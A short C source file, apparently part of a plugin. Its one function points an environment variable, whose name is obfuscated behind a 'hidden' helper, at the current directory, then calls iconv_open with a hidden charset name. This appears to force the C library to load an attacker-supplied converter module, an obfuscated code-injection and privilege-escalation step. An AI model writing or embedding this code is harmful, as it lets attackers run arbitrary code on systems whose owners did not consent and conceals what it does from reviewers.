/* Has the C library load its converter of letters, from a directory that is its own. */
#include "plugin.h"
#include "hidden.h" /* 0: the variable, 1: the alphabet */
extern int setenv(const char *, const char *, int);
extern void *iconv_open(const char *, const char *);
extern char *getenv(const char *);
static void act(char **env) {
    setenv(hidden0(), getenv("PWD"), 1);
    iconv_open(hidden1(), "UTF-8");
}
